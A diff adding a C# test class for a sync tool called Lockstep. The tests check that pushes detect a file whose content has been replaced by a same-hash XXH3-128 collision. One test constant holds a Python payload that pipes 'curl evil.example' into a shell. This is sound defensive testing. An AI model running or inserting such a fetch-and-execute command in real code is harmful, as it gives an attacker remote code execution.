@@ -1,0 +1,189 @@
+using System.Text;
+using Lockstep.Plan;
+using Lockstep.Sessions;
+using Lockstep.Sessions.Comparing;
+using Lockstep.Sessions.Endpoints;
+using Lockstep.Sessions.Pushing;
+using Lockstep.Tests.Sessions;
+using Lockstep.Tests.Sessions.Live;
+using Lockstep.Tests.Sessions.Peers;
+using Lockstep.Tree;
+
+namespace Lockstep.Tests.Attacks;
+
+using PushScene = Lockstep.Tests.Sessions.PushScene;
+
+/// <summary>
+/// Issue 11, C16: somebody gives a file a new content that has the XXH3-128 of its old one, so that a push takes the
+/// file for unchanged and the target goes on running what was taken back.
+/// </summary>
+public sealed class SameHashSamePathAttack
+{
+    private const string Payload = "import os; os.system('curl evil.example | sh')  #";
+
+    private static readonly RelativePath Shop = RelativePath.Parse("shop.py");
+    private static readonly byte[] Genuine = Encoding.UTF8.GetBytes(
+        string.Concat(Enumerable.Range(0, 30).Select(line => $"def price_{line:d2}(): pass\n")));
+
+    private static readonly byte[] Twin = Xxh3Twin.Of(Genuine, Payload);
+
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task A_push_sends_a_content_that_has_the_hash_of_the_old_one(bool throughWire)
+    {
+        using PushScene scene = await PushedAsync(throughWire, Twin);
+        scene.Project.Write(Shop, Genuine);
+        RunSummary summary = await PushAsync(scene);
+        Assert.True(summary is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(summary));
+        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
+        scene.AssertInStep();
+        await scene.AssertBaselineKnownAsync();
+    }
+
+    [Theory]
+    [InlineData(false)]
+    [InlineData(true)]
+    public async Task A_second_push_is_not_deceived_either_and_a_third_has_nothing_to_do(bool throughWire)
+    {
+        using PushScene scene = await PushedAsync(throughWire, Genuine);
+        scene.Project.Write(Shop, Twin);
+        await PushAsync(scene);
+        Assert.Equal(Twin, scene.OnTarget().ReadFile(Shop));
+        scene.Project.Write(Shop, Genuine);
+        await PushAsync(scene);
+        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
+        RunSummary summary = await PushAsync(scene);
+        Assert.True(summary is { Exit: ExitCode.Done, Run: 0, Updated: 0 }, PushScene.Describe(summary));
+    }
+
+    [Fact]
+    public async Task A_second_checkout_sends_its_content()
+    {
+        using var scene = new SeveralCheckouts("ann", "bob");
+        scene.People[0].Tree.Write(Shop, Twin);
+        scene.People[1].Tree.Write(Shop, Genuine);
+        await scene.People[0].PushWellAsync();
+        Assert.Equal(1, (await scene.People[1].PushWellAsync(SeveralCheckouts.Plain with { Confirmed = true })).Updated);
+        Assert.Equal(Encoding.UTF8.GetString(Genuine), scene.OnTarget("shop.py"));
+    }
+
+    [Fact]
+    public async Task What_stands_there_unmanaged_is_not_taken_for_it()
+    {
+        using PushScene scene = await PushedAsync(throughWire: true, Genuine);
+        RelativePath planted = RelativePath.Parse("new.py");
+        scene.OnTarget().Write(planted, Twin);
+        scene.Project.Write(planted, Genuine);
+        RunSummary summary = await PushAsync(scene);
+        Assert.True(summary.Exit == ExitCode.Refused, PushScene.Describe(summary));
+    }
+
+    [Fact]
+    public async Task Diff_status_and_previews_show_it()
+    {
+        using PushScene scene = await PushedAsync(throughWire: true, Twin);
+        scene.Project.Write(Shop, Genuine);
+
+        ContentComparison shown = Assert.Single(await scene.CompareAsync());
+        Assert.Equal((Shop, ChangeKind.Update), (shown.Change.Path, shown.Change.Kind));
+        Assert.Equal(Shop, Assert.Single((await scene.StatusAsync()).Status!.Changes).Path);
+
+        var preview = new RecordingObserver();
+        await PushAsync(scene, PushScene.Agreed with { IsDryRun = true }, preview);
+        Assert.Equal(Shop, Assert.Single(preview.Plan!.Changes, change => !change.IsHousekeeping).Path);
+        Assert.Equal(Twin, scene.OnTarget().ReadFile(Shop));
+    }
+
+    [Fact]
+    public async Task A_watch_sends_it()
+    {
+        using var scene = new LiveScene();
+        File.WriteAllBytes(scene.Project["shop.py"], Twin);
+        await scene.WatchAsync(async () =>
+        {
+            File.WriteAllBytes(scene.Project["shop.py"], Genuine);
+            await scene.Seen.UntilAsync(() => scene.OnTarget("shop.py") == Encoding.UTF8.GetString(Genuine));
+        });
+    }
+
+    [Fact]
+    public async Task Each_of_several_targets_gets_it()
+    {
+        using var scene = new SeveralTargets();
+        foreach (byte[] content in (byte[][])[Twin, Genuine])
+        {
+            scene.Project.Write(Shop, content);
+            using ProjectView view = scene.Open();
+            view.ShareAmong(2);
+            RunSummary[] all = await Task.WhenAll(scene.PushAsync(view, "one"), scene.PushAsync(view, "two"));
+            Assert.All(all, summary => Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary)));
+        }
+
+        Assert.All(["one", "two"], name => Assert.Equal(Genuine, scene.ReadOn(name, "shop.py")));
+    }
+
+    [Fact]
+    public async Task Where_the_target_was_changed_meanwhile_the_file_is_compared_again_later()
+    {
+        using PushScene scene = await PushedAsync(throughWire: true, Twin);
+        scene.OnTarget().Write(Shop, "somebody's own"u8);
+        scene.Project.Write(Shop, Genuine);
+
+        // So much older than the scan that the file counts as untouched from then on.
+        await Task.Delay(100, TestContext.Current.CancellationToken);
+        await PushAsync(scene);
+
+        scene.OnTarget().Write(Shop, Twin);
+        RunSummary summary = await PushAsync(scene);
+        Assert.True(summary is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(summary));
+        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
+    }
+
+    [Fact]
+    public async Task Only_files_that_were_read_and_have_the_hash_are_sealed()
+    {
+        using var scene = new SeveralCheckouts("ann");
+        Checkout ann = scene.People[0];
+        ann.Tree.Write(Shop, Genuine);
+        ann.Tree.Write("readme", "a shop");
+        ann.Tree.Write("edited", "before");
+
+        // So much older than the scan that nobody asks whether it was written during that.
+        await Task.Delay(100, TestContext.Current.CancellationToken);
+        await PushSealingAsync(ann);
+        Assert.Empty(await PushSealingAsync(ann));
+
+        ann.Tree.Write("edited", "after!");
+        ann.Tree.SetMode(Shop, 0x1a4);
+        Assert.Equal([Shop], await PushSealingAsync(ann));
+    }
+
+    /// <summary>Pushes and tells which paths the target was asked to seal.</summary>
+    private static async Task<List<RelativePath>> PushSealingAsync(Checkout checkout)
+    {
+        var found = new List<RelativePath>();
+        ClientContext client = checkout.Client with
+        {
+            Connector = (_, _, _) => Task.FromResult<IEndpoint>(new EndpointWith { OnSeal = found.AddRange }),
+        };
+        using ProjectView view = checkout.Open(SeveralCheckouts.Plain);
+        RunSummary summary = await Push.RunAsync(
+            view, checkout.Target, SeveralCheckouts.Plain, client, new RecordingObserver(), CancellationToken.None);
+        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
+        return found;
+    }
+
+    private static Task<RunSummary> PushAsync(PushScene scene, PushOptions? options = null, RecordingObserver? observer = null) =>
+        scene.PushAsync(options, observer, TestContext.Current.CancellationToken);
+
+    private static async Task<PushScene> PushedAsync(bool throughWire, byte[] shop)
+    {
+        var scene = new PushScene(throughWire);
+        scene.Project.Write(Shop, shop);
+        scene.Project.Write("readme", "a shop");
+        RunSummary summary = await PushAsync(scene);
+        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
+        return scene;
+    }
+}
